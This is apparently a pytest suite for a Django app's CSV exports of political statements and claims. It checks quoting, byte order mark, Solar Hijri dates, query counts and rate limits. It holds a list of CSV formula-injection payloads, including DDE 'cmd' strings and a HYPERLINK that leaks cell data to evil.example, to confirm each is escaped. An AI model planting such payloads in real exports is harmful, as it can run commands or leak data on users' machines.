"""The CSV exports: BOM, RFC 4180 quoting, inert formulas, Solar Hijri dates, same bytes from the
web view and the command, streamed with a fixed number of queries."""

import csv
import datetime
import io
import random

import pytest
from django.core.cache import cache
from django.core.management import CommandError, call_command
from django.db.models import Value
from django.test import Client
from django.urls import reverse

from claims.exports import (
    BOM,
    CLAIM_COLUMNS,
    FORMULA_TRIGGERS,
    STATEMENT_COLUMNS,
    SolarHijriIso,
    invisible_ranges,
)
from claims.models import Statement
from claims.selectors import statement_list
from common.dates import solar_hijri_iso
from tests import factories
from tests.claims.workspace_corpus import build_corpus

pytestmark = pytest.mark.django_db

# One COPY whatever the number of rows; anonymous visitors add one look past their row limit.
EXPORT_QUERIES = 1
ANONYMOUS_EXPORT_QUERIES = 2


@pytest.fixture(autouse=True)
def _fresh_export_allowance():
    # Anonymous exports are rate-limited per address through the cache (common.security).
    cache.clear()


# OWASP "CSV injection" payloads, and the variants the brief adds (bidi marks, full-width forms).
FORMULA_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click")',
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u200e=1+1",
    "\u200f+1",
    "\u202a-1",
    "\u202e@SUM(A1)",
    "\u2066=1",
    "\u2069\u200f  -1",
    "\u00a0=1",
    "\ufeff=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "-",
    "@",
    # What an outside tester got past the first list: control, format and filler characters.
    *(f"{leader}=1+1" for leader in "\x0b\x0c\x1f\x85\xad\u034f\u115f\u180e\u2028\u2061\u3164"),
]
INVISIBLE = "".join(chr(code) for low, high in invisible_ranges() for code in range(low, high + 1))


def _rows(content: bytes) -> list[list[str]]:
    assert content.startswith(BOM)
    return list(csv.reader(io.StringIO(content[len(BOM) :].decode("utf-8"), newline="")))


def _download(client, url, params=None) -> bytes:
    response = client.get(url, params or {})
    assert response.status_code == 200, response.content[:500]
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    return b"".join(response.streaming_content)


def _is_inert(cell: str) -> bool:
    stripped = cell.lstrip(INVISIBLE)
    return not stripped or stripped[0] not in FORMULA_TRIGGERS or cell.startswith("'")


@pytest.fixture
def corpus():
    return build_corpus()


def test_csv_starts_with_bom_and_the_documented_header(client, corpus):
    content = _download(client, reverse("claims:statement_export"))
    rows = _rows(content)
    assert rows[0] == [column.name for column in STATEMENT_COLUMNS]
    assert len(rows) == 1 + 5


def test_csv_rows_are_the_list_rows_in_list_order(client, corpus):
    params = {"topic": [corpus.iran_us.pk, corpus.red_sea.pk], "said_on_from": "۱۴۰۳-۰۱-۰۱"}
    rows = _rows(_download(client, reverse("claims:statement_export"), params))
    header, body = rows[0], rows[1:]
    listed = list(statement_list(filters={k: [str(v) for v in (vs if isinstance(vs, list) else [vs])]
                                          for k, vs in params.items()}))  # fmt: skip
    assert [int(row[header.index("id")]) for row in body] == [s.pk for s in listed]
    by_id = {int(row[0]): dict(zip(header, row, strict=True)) for row in body}
    for statement in listed:
        row = by_id[statement.pk]
        assert row["text"] in (statement.text, "'" + statement.text)
        assert row["translation"] == statement.translation
        assert row["said_on"] == statement.said_on.isoformat()
        assert row["said_on_solar_hijri"] == solar_hijri_iso(statement.said_on)
        assert row["official"] == statement.official.display_name
        assert row["topics"] == " | ".join(sorted(t.name for t in statement.topics.all()))


def test_csv_round_trips_commas_quotes_and_line_breaks(client):
    text = 'He said, "no"\nthen: یک، دو "سه"'
    statement = factories.StatementFactory(text=text, question="line one\r\nline two")
    rows = _rows(_download(client, reverse("claims:statement_export")))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert int(row["id"]) == statement.pk
    assert row["text"] == text
    assert row["question"] == "line one\r\nline two"


def test_held_position_columns(client, corpus):
    rows = _rows(_download(client, reverse("claims:statement_export"), {"official": corpus.kharrazi.pk}))
    by_id = {int(row[0]): dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_id[corpus.talks.pk]["organization"] == "Strategic Council on Foreign Relations"
    assert by_id[corpus.talks.pk]["position"] == "Head"
    assert by_id[corpus.old.pk]["position"] == "Foreign Minister"
    assert by_id[corpus.talks.pk]["country"] == "IR"
    assert by_id[corpus.talks.pk]["sources"] == "https://khabaronline.ir/x"


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_every_formula_payload_comes_out_inert(client, payload):
    official = factories.OfficialFactory(display_name=payload, native_name=payload)
    statement = factories.StatementFactory(
        official=official, text=payload, translation=payload, question=payload, speaker_name_as_printed=payload
    )
    topic = factories.TopicFactory(name=payload)
    statement.topics.add(topic)
    factories.ClaimFactory(statement=statement, text=payload, text_original=payload)
    for url in (reverse("claims:statement_export"), reverse("claims:claim_export")):
        rows = _rows(_download(client, url))
        header, body = rows[0], rows[1:]
        assert len(body) == 1
        for name, cell in zip(header, body[0], strict=True):
            assert _is_inert(cell), f"{url} column {name}: {cell!r}"
        cells = dict(zip(header, body[0], strict=True))
        # The escape only adds a quote: the words are otherwise kept as they were.
        assert cells["text"] == "'" + payload


def test_harmless_text_is_not_escaped(client):
    factories.StatementFactory(text="ما از حوثی‌ها نمی‌خواهیم", translation="Iran - US talks", question="")
    row = dict(zip(*_rows(_download(client, reverse("claims:statement_export")))[:2], strict=True))
    assert row["text"] == "ما از حوثی‌ها نمی‌خواهیم"
    assert row["translation"] == "Iran - US talks"


def test_solar_hijri_sql_agrees_with_python_day_by_day():
    start = datetime.date(2020, 1, 1)
    days = [start + datetime.timedelta(days=n) for n in range(0, 366 * 6)]
    rng = random.Random(4)
    days += [datetime.date(1901, 1, 1) + datetime.timedelta(days=rng.randrange(0, 365 * 297)) for _ in range(1500)]
    days += [
        datetime.date(1901, 3, 21),
        datetime.date(2199, 12, 31),
        datetime.date(2025, 3, 20),
        datetime.date(2025, 3, 21),
    ]
    statement = factories.StatementFactory()
    annotated = Statement.objects.filter(pk=statement.pk)
    from django.db import connection

    sql, params = (
        annotated.annotate(sh=SolarHijriIso(Value(datetime.date(2000, 1, 1)))).values("sh").query.sql_with_params()
    )
    # One query for all the days: bind each day into the same expression.
    expression_sql = sql[sql.index("(SELECT to_char") : sql.rindex(' AS "sh"')]
    with connection.cursor() as cursor:
        cursor.execute(
            f"SELECT d, {expression_sql.replace('%s', 'd')} FROM unnest(%s::date[]) AS d",
            [days],
        )
        for day, value in cursor.fetchall():
            assert value == solar_hijri_iso(day), day
    assert params  # the date was a parameter, replaced above by the column


def test_dates_outside_the_table_are_empty_not_wrong(client):
    factories.StatementFactory(said_on=datetime.date(1850, 1, 1))
    factories.StatementFactory(said_on=None, said_on_precision="day")
    rows = _rows(_download(client, reverse("claims:statement_export"), {"ordering": "said_on"}))
    cells = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert cells[0]["said_on"] == "1850-01-01" and cells[0]["said_on_solar_hijri"] == ""
    assert cells[1]["said_on"] == "" and cells[1]["said_on_solar_hijri"] == ""


@pytest.mark.parametrize("rows", [1, 25])
def test_export_runs_one_query_whatever_the_row_count(client, django_assert_num_queries, rows):
    topic = factories.TopicFactory()
    for statement in factories.StatementFactory.create_batch(rows):
        statement.topics.add(topic)
        factories.ClaimFactory(statement=statement)
    with django_assert_num_queries(ANONYMOUS_EXPORT_QUERIES):
        content = _download(client, reverse("claims:statement_export"), {"topic": topic.pk})
    assert len(_rows(content)) == rows + 1
    with django_assert_num_queries(ANONYMOUS_EXPORT_QUERIES):
        content = _download(client, reverse("claims:claim_export"), {"topic": topic.pk})
    assert len(_rows(content)) == rows + 1
    analyst = factories.analyst_user(username="analyst")
    client.force_login(analyst)
    client.get(reverse("claims:statement_list"))  # the session is read once and cached by then
    for url in (reverse("claims:statement_export"), reverse("claims:claim_export")):
        response = client.get(url, {"topic": topic.pk})
        with django_assert_num_queries(EXPORT_QUERIES):
            content = b"".join(response.streaming_content)
        assert len(_rows(content)) == rows + 1


def test_anonymous_exports_are_bounded(client, settings, django_assert_num_queries):
    factories.StatementFactory.create_batch(3)
    settings.GOFTAR_ANONYMOUS_EXPORT_MAX_ROWS = 2
    with django_assert_num_queries(ANONYMOUS_EXPORT_QUERIES):
        rows = _rows(_download(client, reverse("claims:statement_export")))
    assert len(rows) == 1 + 2 + 1
    assert rows[-1][0].startswith("Export stopped at 2 rows")


def test_export_streams_in_chunks(client):
    factories.StatementFactory.create_batch(300, text="متن طولانی " * 40)
    response = client.get(reverse("claims:statement_export"))
    chunks = list(response.streaming_content)
    assert len(chunks) > 2
    assert chunks[0].startswith(BOM) and chunks[0].endswith(b"\n") and len(chunks[0]) < 1000


def test_invalid_filter_is_a_400_with_reasons(client):
    response = client.get(reverse("claims:statement_export"), {"said_on_from": "۱۴۰۳-۱۴-۰۱", "official": "x"})
    assert response.status_code == 400
    errors = response.json()["errors"]
    assert set(errors) == {"said_on_from", "official"}
    response = client.get(reverse("claims:claim_export"), {"kind": "gossip"})
    assert response.status_code == 400 and "kind" in response.json()["errors"]


def test_anonymous_export_holds_published_statements_only(corpus, admin_client):
    anonymous = _rows(_download(Client(), reverse("claims:statement_export")))
    staff = _rows(_download(admin_client, reverse("claims:statement_export")))
    assert {row[-1] for row in anonymous[1:]} == {"published"}
    assert len(staff) == len(anonymous) + 1


def test_command_writes_the_same_bytes_as_the_web_export(client, corpus, tmp_path):
    params = f"topic={corpus.iran_us.pk}&topic={corpus.red_sea.pk}&said_on_from=۱۴۰۳-۰۱-۰۱"
    web = _download(client, reverse("claims:statement_export") + "?" + params)
    output = tmp_path / "statements.csv"
    call_command("export_statements", params, output=str(output), stderr=io.StringIO())
    assert output.read_bytes() == web
    stdout = io.StringIO()
    call_command(
        "export_statements", f"--topic={corpus.iran_us.pk}", f"--topic={corpus.red_sea.pk}",
        "--said-on-from=۱۴۰۳-۰۱-۰۱", stdout=stdout,
    )  # fmt: skip
    assert stdout.getvalue().encode() == web


def test_claims_command_writes_the_same_bytes(client, corpus, tmp_path):
    web = _download(client, reverse("claims:claim_export") + "?kind=denial&kind=concession")
    output = tmp_path / "claims.csv"
    call_command("export_claims", "kind=denial", "--kind=concession", output=str(output), stderr=io.StringIO())
    assert output.read_bytes() == web
    assert len(_rows(web)) == 3
    assert _rows(web)[0] == [column.name for column in CLAIM_COLUMNS]


def test_command_rejects_invalid_filters(corpus):
    with pytest.raises(CommandError, match="said_on_from"):
        call_command("export_statements", "said_on_from=31-31-1403", stdout=io.StringIO())


def test_command_can_include_unpublished(corpus):
    published, everything = io.StringIO(), io.StringIO()
    call_command("export_statements", stdout=published)
    call_command("export_statements", include_unpublished=True, stdout=everything)
    assert len(_rows(everything.getvalue().encode())) == len(_rows(published.getvalue().encode())) + 1


def test_every_invisible_character_before_a_trigger_is_escaped():
    # All of Unicode's space, control, format and default-ignorable characters, each once before
    # "=", through the same expression the export's SELECT uses.
    from django.db import connection

    from claims.exports import formula_pattern

    leaders = [chr(code) for low, high in invisible_ranges() for code in range(low, high + 1)]
    assert {"\x0b", "\u180e", "\u2061", "\u3164", "\U000e0001"} <= set(leaders)
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT count(*) FROM unnest(%s::text[]) AS leader"
            " WHERE regexp_replace(leader || '=1', %s, %s) = leader || '=1'",
            [leaders, formula_pattern(), "'\\1"],
        )
        assert cursor.fetchone()[0] == 0
        cursor.execute("SELECT regexp_replace(%s, %s, %s)", ["a=1", formula_pattern(), "'\\1"])
        assert cursor.fetchone()[0] == "a=1"
